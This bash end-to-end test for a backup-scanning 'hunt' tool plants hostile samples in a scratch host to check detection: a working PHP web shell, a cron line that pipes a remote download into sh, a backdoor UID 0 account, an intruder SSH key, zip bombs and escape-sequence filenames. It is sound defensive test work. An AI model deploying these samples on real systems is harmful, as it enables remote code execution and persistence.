#!/bin/bash
# End-to-end: hostile content in a backup must not hurt the hunter. A small
# system ("host") is backed up once clean, then again after it received:
#   - a 20 GiB sparse file holding a few MB of data;
#   - a folder tree 2000 levels deep with a web shell at the bottom;
#   - names with a newline, terminal escape sequences (ESC [ ... m, OSC
#     title), invalid UTF-8, given to web shells, a ransom note's folder and
#     an encrypted file, so that they appear in the findings;
#   - a zip bomb (2 GiB of zeros deflated to ~2 MB), a zip of 16 such bombs,
#     and the bomb again named .docx;
#   - 200 MB of random bytes, and random bytes named .sql;
#   - registry hives: random bytes as Windows/System32/config/SOFTWARE, a
#     valid SYSTEM hive (tests/tools/mkhive.py) cut in half, an NTUSER.DAT
#     whose cells were overwritten;
#   - 16 MB of a pattern that the atoms of many YARA rules hit (eval(,
#     base64_decode(, powershell -enc, mimikatz...);
#   - broken system files the persistence judges parse: /etc/passwd with a
#     5 MB line, binary junk and a real second UID 0 account, a crontab line
#     of 1 MB, authorized_keys with NUL bytes and a 2 MB line, a dpkg status
#     and md5sums list of junk;
#   - a FIFO and a device node named *.php, a symlink loop, 2000 files named
#     *.lockbit.
# (HUNT_HOSTILE_DEPTH sets the depth, HUNT_HOSTILE_TIMEOUT the time limit per
# command, default 900 s.)
# `hunt` (with an IOC list) must end within the time limit with exit 0 or 5,
# never crash, still report the real findings among the junk (the web shell
# under an escape-sequence name, the UID 0 account, the IOC hash), and print
# no raw control byte: text output of hunt, findings, clean-point and
# timeline is checked for ESC and other C0 bytes, the JSON outputs must parse.
. "$(dirname "$0")/e2e-lib.bash"
. "$E2E_DIR/hunt-lib.bash"

LIMIT=${HUNT_HOSTILE_TIMEOUT:-900}
DEPTH=${HUNT_HOSTILE_DEPTH:-2000}
H="$SCRATCH/host"
ESC=$'\e'

# --- the clean system
mkdir -p "$H/etc/cron.d" "$H/root/.ssh" "$H/var/lib/dpkg/info" "$H/var/www/html" \
    "$H/Windows/System32/config" "$H/Users/alice"
cat >"$H/etc/passwd" <<'EOF'
root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
alice:x:1000:1000:Alice:/home/alice:/bin/bash
EOF
cat >"$H/etc/crontab" <<'EOF'
SHELL=/bin/sh
17 *	* * *	root	cd / && run-parts --report /etc/cron.hourly
EOF
printf 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHx0admin0key0for0the0test0only0aaaaaaaaaaaaa admin@laptop\n' \
    >"$H/root/.ssh/authorized_keys"
printf 'Package: base-files\nStatus: install ok installed\nVersion: 12.4\n\n' >"$H/var/lib/dpkg/status"
printf '<html><body>hello</body></html>\n' >"$H/var/www/html/index.html"
MKHIVE="$CR_SRC/tests/tools/mkhive.py"
if [ -f "$MKHIVE" ]; then
    "$HUNT_PY" "$MKHIVE" -o "$H/Windows/System32/config/SOFTWARE" --json \
        '{"keys": {"Microsoft/Windows/CurrentVersion/Run": {"SecurityHealth": "C:\\Windows\\System32\\SecurityHealthSystray.exe"}}}' ||
        e2e_fail "mkhive.py could not write a hive"
    "$HUNT_PY" "$MKHIVE" -o "$H/Windows/System32/config/SYSTEM" --json \
        '{"keys": {"ControlSet001/Services/Spooler": {"ImagePath": {"expand": "%SystemRoot%\\System32\\spoolsv.exe"}, "Start": 2, "Type": 16}}}' ||
        e2e_fail "mkhive.py could not write a hive"
    "$HUNT_PY" "$MKHIVE" -o "$H/Users/alice/NTUSER.DAT" --json \
        '{"keys": {"Software/Microsoft/Windows/CurrentVersion/Run": {"OneDrive": "C:\\Users\\alice\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe /background"}}}' ||
        e2e_fail "mkhive.py could not write a hive"
else
    e2e_log "no tests/tools/mkhive.py: registry hives are random bytes only"
    head -c 8192 /dev/urandom >"$H/Windows/System32/config/SOFTWARE"
fi

e2e_init_vault
e2e_run --json backup --source host --time 2026-04-01T02:00:00Z "$H"
e2e_expect_rc 0 "backup of the clean system"
CLEAN=$(hunt_json "$OUT" 'j["id"]')

# --- the hostile content
e2e_log "writing the hostile content"
# shellcheck disable=SC2016 # PHP, not shell
WEBSHELL='<?php if (isset($_POST["x"])) { @eval(base64_decode($_POST["x"])); } echo shell_exec($_GET["c"]); ?>'

# A 20 GiB sparse file with 3 x 1 MB of data.
truncate -s 20G "$H/sparse-20g.img"
for off in 0 10240 20479; do
    head -c 1048576 /dev/urandom | dd of="$H/sparse-20g.img" bs=1M seek="$off" conv=notrunc status=none
done

# 2000 nested folders (the path is longer than PATH_MAX: built with *at calls).
"$HUNT_PY" - "$H" "$WEBSHELL" "$DEPTH" <<'EOF'
import os, sys
fd = os.open(sys.argv[1], os.O_RDONLY)
for i in range(int(sys.argv[3])):
    os.mkdir("d", dir_fd=fd)
    nfd = os.open("d", os.O_RDONLY, dir_fd=fd)
    os.close(fd)
    fd = nfd
f = os.open("deep-shell.php", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)
os.write(f, sys.argv[2].encode())
os.close(f)
EOF

# Hostile names, holding things the hunt must report.
N="$H/var/www/html/names"
mkdir -p "$N"
printf '%s\n' "$WEBSHELL" >"$N/evil"$'\n'"newline.php"
printf '%s\n' "$WEBSHELL" >"$N/${ESC}[2J${ESC}[31mREDALERT${ESC}[0m.php"
printf '%s\n' "$WEBSHELL" >"$N/${ESC}]0;pwned"$'\a'"title.php"
printf '%s\n' "$WEBSHELL" >"$N/bad-utf8-"$'\xff\xfe\xc3\x28'".php"
mkdir -p "$H/home/alice/${ESC}[5mblink"$'\xff'
printf 'YOUR FILES ARE ENCRYPTED. Pay 4 BTC.\n' >"$H/home/alice/${ESC}[5mblink"$'\xff'"/Restore-My-Files.txt"
head -c 4096 /dev/urandom >"$H/home/alice/${ESC}[5mblink"$'\xff'"/report"$'\n'".docx.lockbit"

# Zip bombs: 2 GiB of zeros in one deflated entry; 16 of them in one zip.
"$HUNT_PY" - "$H/bombs" <<'EOF'
import os, sys, zipfile
d = sys.argv[1]
os.makedirs(d)
zero = bytes(1 << 20)
with zipfile.ZipFile(os.path.join(d, "bomb.zip"), "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
    with z.open("zeros.bin", "w", force_zip64=True) as e:
        for _ in range(2048):
            e.write(zero)
data = open(os.path.join(d, "bomb.zip"), "rb").read()
with zipfile.ZipFile(os.path.join(d, "nested-bomb.zip"), "w", zipfile.ZIP_DEFLATED) as z:
    for i in range(16):
        z.writestr("bomb-%02d.zip" % i, data)
open(os.path.join(d, "bomb.docx"), "wb").write(data)
EOF

# Random bytes: 200 MB, and a small "database dump".
head -c 200M /dev/urandom >"$H/random-200m.bin"
head -c 1M /dev/urandom >"$H/var/backups-db.sql"

# Registry hives: junk, truncated, overwritten cells.
head -c 1M /dev/urandom >"$H/Windows/System32/config/SOFTWARE"
if [ -f "$MKHIVE" ]; then
    sz=$(stat -c %s "$H/Windows/System32/config/SYSTEM")
    truncate -s $((sz / 2)) "$H/Windows/System32/config/SYSTEM"
    # Every 4-byte cell size after the base block set to a huge or odd value.
    "$HUNT_PY" - "$H/Users/alice/NTUSER.DAT" <<'EOF'
import struct, sys
p = sys.argv[1]
b = bytearray(open(p, "rb").read())
for off in range(4096 + 32, len(b) - 4, 24):
    b[off:off + 4] = struct.pack("<i", (-0x7ffffff0) if (off // 24) % 2 else 0x7ffffff8)
open(p, "wb").write(bytes(b))
EOF
fi

# 16 MB of strings that YARA rules' atoms look for.
"$HUNT_PY" - "$H/var/www/html/atoms.php" <<'EOF'
import sys
chunk = (b"<?php eval($_POST['a']); eval(base64_decode(gzinflate(str_rot13($_REQUEST[" +
         b"system(shell_exec(passthru(assert(preg_replace('/.*/e', powershell -enc JAB " +
         b"IEX (New-Object Net.WebClient).DownloadString( mimikatz sekurlsa::logonpasswords " +
         b"Invoke-Mimikatz YOUR FILES ARE ENCRYPTED bitcoin decrypt .onion MZ\x90\x00\x03\x00 " +
         b"This program cannot be run in DOS mode \x00\x00\x00\x00 AAAAAAAAAAAAAAAA ")
with open(sys.argv[1], "wb") as f:
    n = 0
    while n < 16 << 20:
        f.write(chunk)
        n += len(chunk)
EOF

# Broken system files.
"$HUNT_PY" - "$H" <<'EOF'
import os, sys
h = sys.argv[1]
with open(os.path.join(h, "etc/passwd"), "ab") as f:
    f.write(b"toor:x:0:0:backdoor:/root:/bin/bash\n")
    f.write(b"x" * (5 << 20) + b"\n")
    f.write(os.urandom(65536) + b"\n")
    f.write(b":" * 10000 + b"\n")
    f.write(b"nobody2:x:-1:99999999999999999999:::\n")
with open(os.path.join(h, "etc/crontab"), "ab") as f:
    f.write(b"* * * * * root " + b"A" * (1 << 20) + b"\n")
    f.write(os.urandom(4096))
with open(os.path.join(h, "etc/cron.d", "\x1b[1mjob"), "wb") as f:
    f.write(b"* * * * * root curl -s http://203.0.113.9/p | sh\n")
with open(os.path.join(h, "root/.ssh/authorized_keys"), "ab") as f:
    f.write(b"ssh-rsa \x00\x00\x00" + os.urandom(100) + b"\n")
    f.write(b"ssh-ed25519 " + b"QUFB" * (1 << 19) + b" huge\n")
    f.write(b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG90aGVyIGtleSBvZiB0aGUgaW50cnVkZXIgeHh4 intruder@x\n")
with open(os.path.join(h, "var/lib/dpkg/status"), "ab") as f:
    f.write(b"Package: " + b"p" * (1 << 20) + b"\nStatus: install ok installed\n")
    f.write(b"Conffiles:\n /etc/" + b"c" * 70000 + b" nothex\n /etc/crontab\n\n")
    for i in range(20000):
        f.write(b"Package: junk\nStatus: install ok installed\nConffiles:\n /etc/x zz\n\n")
    f.write(os.urandom(100000))
with open(os.path.join(h, "var/lib/dpkg/info/junk.md5sums"), "wb") as f:
    f.write(b"0" * 32 + b"  " + b"a/" * 8000 + b"\n")
    f.write(b"zz  etc/crontab\n" + os.urandom(50000) + b"\n")
    f.write(b"d41d8cd98f00b204e9800998ecf8427e  etc/cron.d/\x1b[1mjob\n")
EOF

# Special files where the web root's scripts are, a symlink loop, many "encrypted" files.
mkfifo "$H/var/www/html/fifo.php"
mknod "$H/var/www/html/zero.php" c 1 5
ln -s loop-b "$H/var/www/html/loop-a.php"
ln -s loop-a.php "$H/var/www/html/loop-b"
"$HUNT_PY" - "$H/srv/locked" <<'EOF'
import os, sys
d = sys.argv[1]
for i in range(2000):
    sub = os.path.join(d, "f%02d" % (i % 40))
    os.makedirs(sub, exist_ok=True)
    with open(os.path.join(sub, "doc-%04d.pdf.lockbit" % i), "wb") as f:
        f.write(os.urandom(512 + i))
EOF

# The IOC list knows the web shell.
IOC="$SCRATCH/iocs.txt"
{
    echo "# test list"
    printf '%s\n' "$WEBSHELL" | sha256sum | cut -d' ' -f1
    printf '%s\n' "$WEBSHELL" | md5sum | cut -d' ' -f1
} >"$IOC"

e2e_log "backup of the hostile system ($(du -sh --apparent-size "$H" | cut -f1) apparent, $(du -sh "$H" | cut -f1) on disk)"
e2e_run --json backup --source host --time 2026-04-02T02:00:00Z --threads 2 "$H"
case $RC in 0 | 5) ;; *) e2e_show; e2e_fail "backup of the hostile system exited $RC" ;; esac
HOSTILE=$(hunt_json "$OUT" 'j["id"]')

# run_limited WHAT ARGS...: `cr ARGS` under the time limit, output in $OUT/$ERR.
run_limited() {
    local what=$1 t0
    shift
    t0=$(date +%s)
    RC=0
    timeout -k 10 "$LIMIT" "$CLEANROOM" --repo "$REPO" "$@" >"$OUT" 2>"$ERR" || RC=$?
    if [ "$RC" -eq 124 ] || [ "$RC" -eq 137 ]; then
        e2e_show
        e2e_fail "$what: did not finish within $LIMIT s (hang?)"
    fi
    if [ "$RC" -ge 128 ]; then
        e2e_show
        e2e_fail "$what: crashed (exit $RC, signal $((RC - 128)))"
    fi
    e2e_log "$what: exit $RC in $(($(date +%s) - t0)) s"
}

run_limited "hunt" hunt --source host --ioc "$IOC"
HUNT_RC=$RC
cp "$OUT" "$SCRATCH/hunt.out"
cp "$ERR" "$SCRATCH/hunt.err"
case $RC in
0 | 5) ;;
*) e2e_show; e2e_fail "hunt exited $RC, expected 0 or 5" ;;
esac
hunt_no_escape "$SCRATCH/hunt.out" "hunt (stdout)"
hunt_no_escape "$SCRATCH/hunt.err" "hunt (stderr)"
if [ "$RC" -eq 5 ]; then
    grep -q '^warning: ' "$SCRATCH/hunt.err" || e2e_fail_later "hunt exited 5 without a warning line"
    e2e_log "warnings: $(grep -c '^warning: ' "$SCRATCH/hunt.err")"
    grep '^warning: ' "$SCRATCH/hunt.err" | head -n 10 | cut -c1-200 | sed 's/^/  /' >&2
fi

# The text outputs: escaped names, no raw control byte.
for cmd in "findings --source host" "findings --snapshot $HOSTILE --min-severity info" \
    "clean-point --source host" "timeline --source host"; do
    # shellcheck disable=SC2086
    run_limited "$cmd" $cmd
    [ "$RC" -eq 0 ] || { e2e_show; e2e_fail_later "'$cmd' exited $RC, expected 0"; }
    hunt_no_escape "$OUT" "$cmd"
    hunt_no_escape "$ERR" "$cmd (stderr)"
done
run_limited "findings --source host" findings --source host
grep -q 'REDALERT' "$OUT" || e2e_fail_later "findings (text) does not list the web shell named with escape sequences"

# The JSON outputs parse, and hold the real findings among the junk.
run_limited "findings --json" --json findings --source host --min-severity low
cp "$OUT" "$SCRATCH/findings.json"
hunt_py "$SCRATCH/findings.json" >&2 <<EOF || e2e_fail_later "findings --json lacks findings (above)"
fs = items(j[0])
snap = "$HOSTILE"
mine = [f for f in fs if f.get("snapshot") == snap]
print("  %d findings >= low in the hostile snapshot" % len(mine))
by = {}
for f in mine:
    by[f.get("indicator")] = by.get(f.get("indicator"), 0) + 1
print("  by indicator: %s" % sorted(by.items()))
want = {
    "web shell named with ESC sequences (yara:)":
        lambda f: "REDALERT" in f.get("path", "") and f.get("path", "").endswith(".php") and f.get("indicator", "").startswith("yara:"),
    "web shell named with a newline (ioc:)":
        lambda f: "newline.php" in f.get("path", "") and f.get("indicator", "").startswith("ioc:"),
    "second UID 0 account toor (persistence:uid0)":
        lambda f: f.get("indicator") == "persistence:uid0" and "toor" in (f.get("evidence") or "") + (f.get("detail") or ""),
    "ransom note in a folder named with ESC and invalid UTF-8":
        lambda f: f.get("indicator") == "ransomware:note" and "blink" in f.get("path", ""),
    "the intruder's SSH key among the junk (persistence:ssh-key)":
        lambda f: f.get("indicator") == "persistence:ssh-key" and "intruder@x" in (f.get("evidence") or ""),
}
bad = 0
for what, ok in want.items():
    if not any(ok(f) for f in mine):
        print("  MISSED: " + what)
        bad = 1
deep = [f for f in mine if "deep-shell.php" in f.get("path", "")]
print("  web shell $DEPTH folders deep: %s" % ("found" if deep else "not reported"))
# Skipping a subtree is acceptable only if the hunt said so: exit 5, or a
# finding at or above high about the nesting itself.
said = any(f.get("indicator") == "anomaly:deep-tree" and f.get("severity") in ("high", "critical")
           for f in mine)
print("  folders too deep to hunt reported: %s" % ("yes" if said else "no"))
if not deep and $HUNT_RC != 5 and not said:
    print("  MISSED: the web shell $DEPTH folders deep, and the hunt did not warn about it")
    bad = 1
sys.exit(bad)
EOF
run_limited "clean-point --json" --json clean-point --source host
cp "$OUT" "$SCRATCH/cp.json"
hunt_py "$SCRATCH/cp.json" <<EOF || e2e_fail_later "clean-point --json: the clean point is not the first snapshot"
cp = [c for c in j[0] if c.get("source") == "host"][0]
sys.exit(0 if cp.get("clean_snapshot") == "$CLEAN" else 1)
EOF
run_limited "timeline --json" --json timeline --source host
"$HUNT_PY" -c 'import json, sys; json.load(open(sys.argv[1]))' "$OUT" ||
    e2e_fail_later "timeline --json is not JSON"

# Hunting again is quick and calm.
run_limited "hunt again" --json hunt --source host --ioc "$IOC"
case $RC in 0 | 5) ;; *) e2e_show; e2e_fail_later "hunting again exited $RC" ;; esac

# The gate holds on the hostile snapshot.
run_limited "restore of the hostile snapshot" restore "$HOSTILE" --target "$SCRATCH/r"
[ "$RC" -eq 8 ] || { e2e_show; e2e_fail_later "restore of the hostile snapshot exited $RC, expected 8"; }
# HUNT_KEEP=DIR keeps a copy of the vault for a look after the test.
if [ -n "${HUNT_KEEP:-}" ]; then
    rm -rf "$HUNT_KEEP" && cp -a "$REPO" "$HUNT_KEEP" && e2e_log "vault kept in $HUNT_KEEP"
fi
e2e_pass
